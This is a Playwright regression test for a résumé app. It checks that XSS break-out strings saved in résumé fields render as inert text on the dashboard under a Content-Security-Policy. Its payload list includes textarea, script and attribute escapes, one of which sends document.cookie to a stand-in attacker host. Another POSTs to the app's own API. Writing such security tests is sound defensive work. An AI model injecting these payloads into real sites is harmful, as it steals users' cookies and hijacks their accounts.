import { test, expect, type Page } from "@playwright/test";
import { signUp, uniqueEmail } from "./support/accounts";

// Issue 14: a résumé summary or bullet holding `</textarea><svg onload=…>` (copied verbatim from a
// PDF by the parser) ran script when its owner opened the dashboard, and changed their style
// through POST /api/style. Here every string of a saved résumé is a break-out of a textarea, a
// script or an attribute; the dashboard is loaded fresh (so the browser parses the server's HTML)
// and must show each one as text: no dialog, no request anywhere but the app's own, no element
// made from the payloads, and the page still hydrates under its Content-Security-Policy.

const ATTACKER = "https://attacker.example";

// `fetch` both to another site and to our own API, as the real payload did.
const PAYLOADS = [
  `</textarea><svg onload=alert(1)>`,
  `</textarea><img src=x onerror="fetch('${ATTACKER}/img?'+document.cookie)">`,
  `</script><script>fetch('/api/style',{method:'POST',body:'style=bento'})</script>`,
  `"><script>alert(4)</script>`,
  `</textarea><script>window.__pwned=1</script><textarea>`,
  `</noscript><style>body{display:none}</style><svg onload=alert(6)>`,
];
const p = (i: number) => PAYLOADS[i % PAYLOADS.length];

function hostileResume() {
  return {
    personalInfo: { name: p(0), title: p(1), location: p(2) },
    summary: p(0),
    skills: {
      languages: [p(1), p(2)],
      frameworksAndTools: [p(3)],
      softSkills: [p(4)],
      groups: [{ name: p(5), keywords: [p(0)] }],
    },
    experience: [
      {
        company: p(5),
        position: p(0),
        location: p(1),
        startDate: "2020",
        description: [p(0), p(1), p(2), p(3), p(4), p(5)],
        technologies: [p(2)],
      },
    ],
    projects: [{ name: p(1), role: p(3), description: [p(2)], technologies: [p(3)] }],
    education: [{ university: p(4), degree: p(5), branch: p(3), location: p(0) }],
    extracurricular: [p(0), p(4)],
    customSections: [{ title: p(2), items: [p(3), p(5)] }],
  };
}

test("a résumé made of break-outs is inert text on the dashboard", async ({ page, baseURL }) => {
  test.setTimeout(60_000);
  await signUp(page, uniqueEmail("hostile"));
  const saved = await page.request.post("/api/resume/save", { data: { resume: hostileResume() } });
  expect(saved.status(), await saved.text()).toBe(200);

  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const requests: { method: string; url: string }[] = [];
  page.on("request", (r) => requests.push({ method: r.method(), url: r.url() }));
  const problems: string[] = [];
  page.on("pageerror", (e) => problems.push(e.message));
  page.on("console", (m) => {
    // The preview frame is sandboxed without scripts on purpose, and Chromium reports each
    // listener the mounted site cannot run there (with any résumé): that is the sandbox working.
    if (/^Blocked script execution in 'about:srcdoc' because the document's frame is sandboxed/.test(m.text())) return;
    if (m.type() === "error" || /Content[- ]Security[- ]Policy/i.test(m.text())) problems.push(m.text());
  });

  // A fresh load: what runs is what the server's HTML says.
  await page.goto("/dashboard");
  await expect(page.locator("body")).toHaveAttribute("data-hydrated", "true");
  await expect(page.locator("#summary")).toHaveValue(p(0));
  // Event handlers (onerror, onload) fire soon after parsing: give them the time to.
  await page.waitForTimeout(1_000);

  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  const origin = new URL(baseURL!).origin;
  expect(requests.filter((r) => new URL(r.url).origin !== origin && !r.url.startsWith("data:"))).toEqual([]);
  expect(requests.filter((r) => r.url.includes("/api/style"))).toEqual([]);
  expect(requests.filter((r) => new URL(r.url).pathname === "/x")).toEqual([]);
  // The page's own data block: data, never run, and nothing in it can close it early.
  const data = page.locator("script#dashboard-data");
  await expect(data).toHaveCount(1);
  await expect(data).toHaveAttribute("type", "application/json");
  expect(await data.evaluate((el) => el.innerHTML), "no '<' in it: nothing can close it early").not.toContain("<");
  for (const scope of [page.locator("body"), page.frameLocator("#site-preview").locator("body")]) {
    await expect(scope.locator("svg[onload], img[src='x'], img[onerror], script:not([nonce]):not([src])")).toHaveCount(0);
  }
  await expect(page.locator("body")).toBeVisible();

  // Each textarea holds its payload exactly, as text.
  const values = await page.locator("textarea").evaluateAll((els) => els.map((e) => (e as HTMLTextAreaElement).value));
  expect(values.length).toBeGreaterThanOrEqual(9);
  for (const v of values) expect(PAYLOADS).toContain(v);
  expect(values).toContain(p(4));
  await expect(page.getByLabel("Name", { exact: true })).toHaveValue(p(0));
  await expect(page.getByLabel("Title", { exact: true })).toHaveValue(p(1));

  // The preview (a srcdoc frame under the page's policy) shows the name as text, styled.
  const preview = page.frameLocator("#site-preview");
  await expect(preview.getByRole("heading", { level: 1 })).toHaveText(p(0));
  // The site stylesheet applies (an unstyled body has an 8 px margin).
  expect(await preview.locator("body").evaluate((b) => getComputedStyle(b).marginTop)).toBe("0px");

  // The page works: an edit shows as unsaved, and nothing was reported along the way.
  await page.locator("#summary").fill("Plain text now.");
  await expect(page.getByRole("button", { name: "Save changes" })).toBeEnabled();
  expect(problems).toEqual([]);
});

test("every app page runs under its policy without a violation", async ({ page }) => {
  const problems: string[] = [];
  page.on("pageerror", (e) => problems.push(e.message));
  page.on("console", (m) => {
    // The dashboard's preview frame runs no script on purpose (see the test above).
    if (/^Blocked script execution in 'about:srcdoc' because the document's frame is sandboxed/.test(m.text())) return;
    if (m.type() === "error" || /Content[- ]Security[- ]Policy/i.test(m.text())) problems.push(m.text());
  });
  // Pages without wasm: their inline script (the theme toggle's) runs with the nonce.
  for (const path of ["/", "/sign-in", "/sign-up"]) {
    const response = await page.goto(path);
    expect(response?.headers()["content-security-policy"]).toContain("'nonce-");
    await expect(page.locator(".theme-toggle")).toBeEnabled();
    await expect(page.locator("script:not([nonce]):not([src])")).toHaveCount(0);
  }
  // The dashboard: the wasm compiles and hydrates under the same policy.
  await signUp(page, uniqueEmail("csp"));
  const response = await page.goto("/dashboard");
  expect(response?.headers()["content-security-policy"]).toContain("'nonce-");
  await expect(page.locator("body")).toHaveAttribute("data-hydrated", "true");
  expect(problems).toEqual([]);
});
